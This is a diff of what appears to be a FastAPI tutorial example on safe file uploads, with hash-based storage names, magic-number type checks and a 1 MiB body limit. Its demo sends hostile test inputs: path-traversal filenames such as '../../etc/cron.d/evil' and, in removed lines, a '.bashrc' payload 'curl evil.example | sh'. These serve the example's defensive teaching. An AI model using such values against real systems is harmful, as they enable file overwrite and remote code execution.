@@ -5,38 +5,54 @@ import shutil
 import tempfile
 from pathlib import Path
 
-from fastapi import FastAPI, HTTPException, UploadFile, status
-from starlette.middleware.body_limit import RequestBodyLimitMiddleware
+from fastapi import FastAPI, UploadFile
 
 MAX_BODY_BYTES = 1024 * 1024  # 1 MiB per request: the file plus a little form framing
-# How each accepted type's bytes begin (its "magic number"), and the suffix it is saved with.
+# A fresh, private folder, deleted when the process exits. A real app reads its folder
+# from its settings.
+UPLOAD_DIR = Path(tempfile.mkdtemp(prefix="uploads-"))
+atexit.register(shutil.rmtree, UPLOAD_DIR, ignore_errors=True)
+
+# A body over the limit gets 413 before FastAPI parses any of it.
+app = FastAPI(max_body_size=MAX_BODY_BYTES)
+# The answers besides 201 and 422, declared so that the docs list them (Example 12).
+UPLOAD_ERRORS = {
+    400: {"description": "Not valid multipart/form-data"},
+    413: {"description": "The body is over 1 MiB"},
+}
+
+
+@app.post("/files", status_code=201, responses=UPLOAD_ERRORS)
+def upload_file(file: UploadFile):
+    content = file.file.read()  # at most MAX_BODY_BYTES: the limit saw to it
+    # The name on disk comes from the content, never from file.filename.
+    stored_as = hashlib.sha256(content).hexdigest()[:16]
+    (UPLOAD_DIR / stored_as).write_bytes(content)
+    return {
+        "stored_as": stored_as,
+        # What the client claims, sent back as it came: nobody has checked it.
+        "filename": file.filename,
+        "content_type": file.content_type,
+        "size": file.size,
+    }
+
+
+# --8<-- [end:app]
+
+
+# --8<-- [start:signatures]
+from fastapi import HTTPException
+
+# How each accepted type's bytes begin (its "magic number"), and its file suffix.
 SIGNATURES = {
     b"\x89PNG\r\n\x1a\n": ("image/png", ".png"),
     b"\xff\xd8\xff": ("image/jpeg", ".jpg"),
     b"%PDF-": ("application/pdf", ".pdf"),
 }
-# A fresh, private folder for this demo, deleted when the process exits.
-# A real app reads its folder from its settings.
-UPLOAD_DIR = Path(tempfile.mkdtemp(prefix="receipts-"))
-atexit.register(shutil.rmtree, UPLOAD_DIR, ignore_errors=True)
-
-# The answers besides 201 and 422, declared so that the docs list them (see Example 12).
-UPLOAD_ERRORS = {
-    status.HTTP_400_BAD_REQUEST: {"description": "Not valid multipart/form-data"},
-    status.HTTP_413_CONTENT_TOO_LARGE: {"description": "The body is over 1 MiB"},
-}
-NOT_ACCEPTED = {
-    status.HTTP_415_UNSUPPORTED_MEDIA_TYPE: {"description": "Not a PNG, JPEG or PDF"}
-}
-
-app = FastAPI()
-# Counts the body while it arrives: over the limit, the request ends with 413 and the
-# app reads no more of it. A Content-Length over the limit is refused up front.
-app.add_middleware(RequestBodyLimitMiddleware, max_body_size=MAX_BODY_BYTES)
 
 
 def detect_type(content: bytes) -> tuple[str, str] | None:
-    """The (media type, suffix) announced by the content's first bytes, if we take it."""
+    """The (media type, suffix) that the first bytes announce, if we accept it."""
     for signature, kind in SIGNATURES.items():
         if content.startswith(signature):
             return kind
@@ -45,38 +61,21 @@ def detect_type(content: bytes) -> tuple[str, str] | None:
 
 @app.post(
     "/receipts",
-    status_code=status.HTTP_201_CREATED,
-    responses={**UPLOAD_ERRORS, **NOT_ACCEPTED},
+    status_code=201,
+    responses={**UPLOAD_ERRORS, 415: {"description": "Not a PNG, JPEG or PDF"}},
 )
 def upload_receipt(file: UploadFile):
-    content = file.file.read()  # at most MAX_BODY_BYTES, thanks to the middleware
+    content = file.file.read()
     kind = detect_type(content)  # file.content_type is ignored: the client chose it
     if kind is None:
-        raise HTTPException(
-            status.HTTP_415_UNSUPPORTED_MEDIA_TYPE, "Upload a PNG, JPEG or PDF file"
-        )
+        raise HTTPException(415, "Upload a PNG, JPEG or PDF file")
     media_type, suffix = kind
-    # The name on disk comes from the content, never from file.filename.
     stored_as = hashlib.sha256(content).hexdigest()[:16] + suffix
     (UPLOAD_DIR / stored_as).write_bytes(content)
     return {"stored_as": stored_as, "media_type": media_type, "size": len(content)}
 
 
-# --8<-- [end:app]
-
-
-# --8<-- [start:claims]
-@app.post("/claims", responses=UPLOAD_ERRORS)
-def what_the_client_claims(file: UploadFile):
-    # All three come from the client. None of them has been checked by anyone.
-    return {
-        "filename": file.filename,
-        "content_type": file.content_type,
-        "size": file.size,
-    }
-
-
-# --8<-- [end:claims]
+# --8<-- [end:signatures]
 
 # --8<-- [start:demo]
 if __name__ == "__main__":
@@ -87,10 +86,27 @@ if __name__ == "__main__":
     receipt = (samples / "receipt.pdf").read_bytes()
 
     # A file's name and content type are just text the client chose.
-    lie = ("../../home/app/.bashrc", b"curl evil.example | sh\n", "image/png")
-    print(client.post("/claims", files={"file": lie}).json())
-    #> {'filename': '../../home/app/.bashrc', 'content_type': 'image/png', 'size': 23}
+    upload = ("../../etc/cron.d/evil", receipt, "image/png")
+    body = client.post("/files", files={"file": upload}).json()
+    print(body["filename"], body["content_type"], body["stored_as"])
+    #> ../../etc/cron.d/evil image/png c4051adb6b22e67d
+    # The path in the filename was never used: the file is in the folder, named by hash.
+    print([path.name for path in UPLOAD_DIR.iterdir()])
+    #> ['c4051adb6b22e67d']
 
+    # 2 MiB: refused before the handler runs.
+    response = client.post("/files", files={"file": bytes(2 * MAX_BODY_BYTES)})
+    print(response.status_code, response.text)
+    #> 413 Content Too Large
+    # --8<-- [end:demo]
+
+    # --8<-- [start:more]
+    # A plain text field where the file should be.
+    response = client.post("/files", data={"file": "receipt.pdf"})
+    print(response.status_code, response.json()["detail"][0]["msg"])
+    #> 422 Value error, Expected UploadFile, received: <class 'str'>
+
+    # /receipts reads the type from the first bytes, whatever the client claims.
     upload = ("receipt.pdf", receipt, "application/pdf")
     response = client.post("/receipts", files={"file": upload})
     print(response.status_code, response.json())
@@ -98,32 +114,8 @@ if __name__ == "__main__":
     201
     {'stored_as': 'c4051adb6b22e67d.pdf', 'media_type': 'application/pdf', 'size': 602}
     '''
-
-    # A path in the filename changes nothing: it is never used.
-    upload = ("../../etc/cron.d/evil", receipt, "application/pdf")
-    response = client.post("/receipts", files={"file": upload})
-    print(response.status_code, response.json())
-    '''
-    201
-    {'stored_as': 'c4051adb6b22e67d.pdf', 'media_type': 'application/pdf', 'size': 602}
-    '''
-    print([path.name for path in UPLOAD_DIR.iterdir()])
-    #> ['c4051adb6b22e67d.pdf']
-
-    # Declared as a PDF, but its bytes say otherwise.
     upload = ("notes.pdf", (samples / "notes.txt").read_bytes(), "application/pdf")
     response = client.post("/receipts", files={"file": upload})
     print(response.status_code, response.json())
     #> 415 {'detail': 'Upload a PNG, JPEG or PDF file'}
-
-    # 2 MiB: refused before the handler runs.
-    upload = ("big.pdf", b"%PDF-" + bytes(2 * MAX_BODY_BYTES), "application/pdf")
-    response = client.post("/receipts", files={"file": upload})
-    print(response.status_code, response.text)
-    #> 413 Content Too Large
-
-    # A plain text field where the file should be.
-    response = client.post("/receipts", data={"file": "receipt.pdf"})
-    print(response.status_code, response.json()["detail"][0]["msg"])
-    #> 422 Value error, Expected UploadFile, received: <class 'str'>
-# --8<-- [end:demo]
+    # --8<-- [end:more]
